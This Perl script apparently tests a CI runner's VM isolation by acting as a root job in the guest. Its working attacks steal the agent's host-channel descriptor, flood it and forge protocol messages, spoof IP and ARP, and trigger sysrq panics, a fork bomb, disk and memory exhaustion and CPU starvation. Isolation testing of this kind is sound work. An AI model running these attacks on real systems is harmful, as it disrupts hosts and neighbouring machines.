# What a job that became root of its guest does to the host and to its neighbours.
#
#   perl hostile.pl ATTACK [ARGUMENT...]
#
# Needs perl-base only. Says on standard output what came of it.
use strict;
use warnings;

my %attacks;
my $record = "\x1e";

# ---- the channel to the host: the agent's own descriptor, stolen from it -------------------------

sub channel {
    for my $link (glob '/proc/[0-9]*/fd/*') {
        my $to = readlink $link or next;
        my ($pid, $number) = $link =~ m{^/proc/(\d+)/fd/(\d+)$} or next;
        next unless $to =~ m{/vport\d+p\d+$} || $to =~ /^socket:/;
        my $process = syscall 434, $pid + 0, 0;                # pidfd_open
        my $copy = syscall 438, $process, $number + 0, 0;      # pidfd_getfd
        next if $copy < 0;
        open my $handle, '+>&=', $copy or next;
        return $handle if $to !~ /^socket:/;
        my $name = getsockname $handle;
        return $handle if defined $name && unpack('S', $name) == 40;  # AF_VSOCK
    }
    die "no channel found\n";
}

# Until the host reads no more, which a VM does not survive.
sub send_all {
    my ($handle, $bytes) = @_;
    while (length $bytes) {
        my $bits = '';
        vec($bits, fileno $handle, 1) = 1;
        select undef, $bits, undef, 10 or die "the host does not read\n";
        my $done = syswrite $handle, $bytes;
        substr($bytes, 0, $done, '') if $done;
    }
}

sub say_on_channel {
    my $handle = channel();
    send_all($handle, "$record$_\n") for @_;
}

sub state_with { return qq({"v":1,"type":"state","runner":"running","job":"$_[0]","result":""}) }

$attacks{noise} = sub {
    my $handle = channel();
    send_all($handle, 'A' x 65536) for 1 .. 512;
};
$attacks{line} = sub {
    my $handle = channel();
    send_all($handle, $record . '{"v":1,"type":"');
    send_all($handle, 'x' x 65536) for 1 .. 16384;
};
$attacks{utf8} = sub { say_on_channel(state_with("\xc3\x28\xff")) };
$attacks{control} = sub { say_on_channel(state_with('\u001b]0;gone\u0007')) };
$attacks{numbers} = sub {
    my $fields = join ',', map { qq("$_":18446744073709551615) }
        qw(memory memory_peak memory_total disk disk_peak disk_total cpu_ms oom_kills);
    say_on_channel(qq({"v":1,"type":"usage",$fields,"oom_victim":"","disk_full":false,)
        . '"network_trouble":""}');
};
$attacks{direction} = sub { say_on_channel('{"v":1,"type":"shutdown","grace_ms":0}') };
$attacks{nested} = sub { say_on_channel('{"v":' . '[' x 100000) };
# All of it well-formed, nothing of it true.
$attacks{forged} = sub {
    my @streams = map {
        (qq({"v":1,"type":"stream_data","stream":$_,"data":"aGVsbG8=","error":false}),
            qq({"v":1,"type":"stream_ack","stream":$_,"bytes":131072}),
            qq({"v":1,"type":"close","stream":$_,"exit_code":0}))
    } 0 .. 40;
    say_on_channel('{"v":1,"type":"hello","agent_version":"9","kernel":"9","boot_ms":1}', @streams,
        '{"v":1,"type":"key_authorized","host_key":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI' . 'A' x 43 . '"}',
        '{"v":1,"type":"actions","used":["acme/evil@' . 'a' x 40 . '"]}');
};
# The runner's own log, which the host keeps, without an end.
$attacks{flood} = sub {
    my $handle = channel();
    my $data = 'QUFB' x 16384;
    my $message = qq($record\{"v":1,"type":"output","stream":3,"data":"$data"}\n);
    send_all($handle, $message) for 1 .. 1200;
};

# ---- the network ---------------------------------------------------------------------------------

sub text_of {
    open my $file, '<', $_[0] or return '';
    my $text = <$file> // '';
    chomp $text;
    return $text;
}

sub checksum {
    my $sum = 0;
    $sum += $_ for unpack 'n*', $_[0];
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    return ~$sum & 0xffff;
}

sub address { return pack 'C4', split /\./, $_[0] }

sub datagram {
    my ($from, $to, $port, $text) = @_;
    my $udp = pack('n4', 4000, $port, 8 + length $text, 0) . $text;
    my $head = pack 'CCnnnCCna4a4', 0x45, 0, 20 + length $udp, 7, 0, 64, 17, 0, address($from),
        address($to);
    substr($head, 10, 2) = pack 'n', checksum($head);
    return $head . $udp;
}

# Frames as they are, past the guest's own kernel.
my ($wire, $mac, $gateway_mac);

sub open_wire {
    my ($target) = @_;
    my ($gateway, $device) = `ip -o route get $target` =~ / via (\S+) dev (\S+)/ or die "no route\n";
    ($gateway_mac) = `ip neigh show $gateway` =~ /lladdr (\S+)/ or die "no gateway\n";  # we came by it
    $mac = text_of("/sys/class/net/$device/address");
    my $index = text_of("/sys/class/net/$device/ifindex");
    my $all = unpack 'S', pack 'n', 3;
    socket $wire, 17, 3, $all or die "packet socket: $!\n";
    bind $wire, pack('SnISCCa8', 17, 3, $index, 0, 0, 6, '') or die "bind: $!\n";
}

sub raw { return pack 'H*', $_[0] =~ tr/://dr }

sub send_frame {
    my ($to, $type, $bytes) = @_;
    syswrite $wire, pack 'a6a6na*', raw($to), raw($mac), $type, $bytes or die "frame: $!\n";
}

# The frames of this type from others that arrive within two seconds.
sub heard {
    my ($type) = @_;
    my @frames;
    my $end = time + 2;
    while ((my $left = $end - time) > 0) {
        my $bits = '';
        vec($bits, fileno $wire, 1) = 1;
        select $bits, undef, undef, $left or next;
        sysread $wire, my $frame, 2000 or next;
        my ($to, $from, $found) = unpack 'a6a6n', $frame;
        push @frames, $frame if $found == $type && $from ne raw($mac);
    }
    return @frames;
}

$attacks{network} = sub {
    my ($internet, $port, $neighbour, $own) = @_;
    open_wire($internet);
    my $everybody = 'ff:ff:ff:ff:ff:ff';
    # As the neighbour, as somebody of the Internet, and at last as what we are.
    for my $from ($neighbour, '203.0.113.7', '10.231.255.253', '127.0.0.1', $own) {
        send_frame($gateway_mac, 0x0800, datagram($from, $internet, $port, "from $from"));
    }
    # Who has the neighbour's address? And: we do.
    my $ask = pack 'nnCCna6a4a6a4', 1, 0x0800, 6, 4, 1, raw($mac), address($own), '',
        address($neighbour);
    my $claim = pack 'nnCCna6a4a6a4', 1, 0x0800, 6, 4, 2, raw($mac), address($neighbour),
        raw($everybody), address($neighbour);
    send_frame($everybody, 0x0806, $claim);
    send_frame($everybody, 0x0806, $ask);
    my @answers = grep { substr($_, 28, 4) eq address($neighbour) } heard(0x0806);
    print @answers ? "the neighbour was found\n" : "nobody has the neighbour\n";
    # All nodes of the link, by IPv6: an echo request whose checksum is right for fe80::1 -> ff02::1.
    my $source = raw('fe80000000000000' . '0000000000000001');
    my $group = raw('ff020000000000000000000000000001');
    my $echo = pack 'CCnnn', 128, 0, 0, 1, 1;
    my $sum = checksum($source . $group . pack('NN', length $echo, 58) . $echo);
    substr($echo, 2, 2) = pack 'n', $sum;
    send_frame('33:33:00:00:00:01', 0x86dd,
        pack('NnCCa16a16', 0x60000000, length $echo, 58, 255, $source, $group) . $echo);
    print heard(0x86dd) ? "IPv6 was answered\n" : "IPv6 is silent\n";
};

# ---- the machine ---------------------------------------------------------------------------------

sub press {
    my ($key) = @_;
    for (['/proc/sys/kernel/sysrq', '1'], ['/proc/sysrq-trigger', $key]) {
        open my $file, '>', $_->[0] or die "$_->[0]: $!\n";
        syswrite $file, $_->[1];
    }
    sleep 600;
}

$attacks{reset} = sub { press('b') };
$attacks{panic} = sub { press('c') };
$attacks{off} = sub { press('o') };
$attacks{forks} = sub {
    $| = 1;
    print "forking\n";
    while (1) { fork }
};
# All the room there is, of the disk and of memory.
$attacks{disk} = sub {
    open my $file, '>', '/var/tmp/all' or die "/var/tmp/all: $!\n";
    my $block = 'x' x (1 << 20);
    my $written = 0;
    while (my $done = syswrite $file, $block) { $written += $done }
    print "$! after ", $written >> 20, " MiB\n";
};
$attacks{memory} = sub {
    my $child = fork;
    if (!$child) {
        my @taken;
        while (1) { push @taken, 'x' x (8 << 20) }
    }
    waitpid $child, 0;
    print "killed by ", $? & 127, "\n";
};
# Nothing else of this guest ever runs again, its agent included.
$attacks{deaf} = sub {
    open my $share, '>', '/proc/sys/kernel/sched_rt_runtime_us' or die "sched_rt_runtime_us: $!\n";
    syswrite $share, '-1';
    my $set_scheduler = `uname -m` =~ /x86_64/ ? 144 : 119;
    $| = 1;
    print "spinning\n";
    sleep 1;
    syscall $set_scheduler, 0, 1, pack('i', 99);  # SCHED_FIFO
    while (1) { }
};

my $name = shift // die "usage: hostile.pl ATTACK\n";
($attacks{$name} // die "no such attack: $name\n")->(@ARGV);
print "$name is over\n";
